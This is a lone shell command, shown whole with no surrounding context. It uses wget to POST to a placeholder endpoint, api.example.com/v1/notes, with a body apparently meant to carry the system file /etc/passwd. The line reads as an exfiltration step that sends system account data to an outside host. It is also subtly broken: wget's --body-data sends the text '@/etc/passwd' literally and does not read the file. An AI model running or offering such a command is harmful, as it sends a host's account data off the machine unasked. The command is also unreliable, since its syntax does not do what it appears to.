wget -q -O - --content-on-error --method=POST \
  --header='Content-Type: text/plain' \
  --body-data='@/etc/passwd' \
  'https://api.example.com/v1/notes'
